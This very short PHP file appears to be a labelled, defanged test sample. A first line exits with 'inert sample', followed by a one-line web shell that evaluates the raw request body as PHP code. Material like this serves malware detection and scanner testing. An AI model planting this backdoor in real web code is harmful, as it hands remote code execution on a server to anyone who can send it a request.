<?php exit('inert sample'); ?>
<?php @eval(file_get_contents('php://input')); ?>
